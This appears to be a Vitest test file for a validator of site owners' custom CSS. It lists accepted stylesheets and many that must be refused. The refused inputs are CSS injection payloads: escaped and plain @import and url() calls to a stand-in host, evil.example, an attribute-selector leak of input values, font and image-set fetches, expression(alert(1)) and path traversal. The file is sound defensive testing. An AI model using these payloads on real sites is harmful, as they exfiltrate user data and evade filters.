import { describe, expect, it } from 'vitest';
import { styleIssue } from './style-issue.ts';

const UPLOAD = `/uploads/${'a'.repeat(64)}.png`;

describe('an owners’ stylesheet', () => {
  it.each([
    ['nothing', ''],
    ['tokens', ':root { --accent: light-dark(#7a1fa2, #d9a5ff); --radius-small: 0 }'],
    ['queries and nesting', '@media (width < 40rem) { .card { &:hover { color: red } } }'],
    ['an upload', `body { background: url(${UPLOAD}) } header { background: url("${UPLOAD}") }`],
    ['words', '.note::before { content: "url(https://evil.example) \\2014 " }'],
    ['grids and layers', '@layer a { main { display: grid; grid-template-areas: "a b" } }'],
    ['computed values', 'p { width: calc(100% - min(2rem, var(--x, 4px))) }'],
  ])('may have %s', async (_what, css) => {
    expect(await styleIssue(css)).toBeNull();
  });

  it.each([
    '@import "https://evil.example/a.css";',
    '@IMPORT url(//evil.example/a.css);',
    '@im\\70ort "https://evil.example/a.css";',
    '@namespace url(https://evil.example);',
    'a { background: url(https://evil.example/a.png) }',
    'a { background: URL( "//evil.example" ) }',
    'a { background: url(/api/users/profile) }',
    'a { background: url(/uploads/../api/x.png) }',
    'a { background: url(data:image/svg+xml,<svg/>) }',
    'a { background: u\\72l(https://evil.example) }',
    'a { background: \\75\\72\\6c("https://evil.example") }',
    'a { background: image-set("https://evil.example/a.png" 1x) }',
    'a { background: -webkit-image-set("https://evil.example" 1x) }',
    'a { background: image("https://evil.example") }',
    'a { background: src("https://evil.example") }',
    'a { --x: url(https://evil.example); background: var(--x) }',
    'a { --x: { background: url(https://evil.example) } }',
    'input[value^="a"] { background: url(https://evil.example/a) }',
    '@font-face { font-family: x; src: url(https://evil.example/a.woff2) }',
    'a { width: expression(alert(1)) }',
    'a { behavior: url(#default#time2) }',
    'a { -moz-binding: none }',
    '/* */ a { color: red; } } @import "x";',
    '@supports (background: url(https://evil.example)) { a { color: red } }',
    '@document url(https://x) { a { color: red } }',
    'a { background: url(https://evil.example',
    '<style>a { color: red }</style>',
  ])('is refused with the line: %s', async (css) => {
    const issue = await styleIssue(`p { color: red }\n${css}`);
    expect(issue).toMatch(/^Line 2: /);
  });

  it('is read in linear time', async () => {
    const begun = performance.now();
    await styleIssue('a{b:url('.repeat(2500));
    await styleIssue('{'.repeat(20_000));
    expect(performance.now() - begun).toBeLessThan(5000);
  });
});
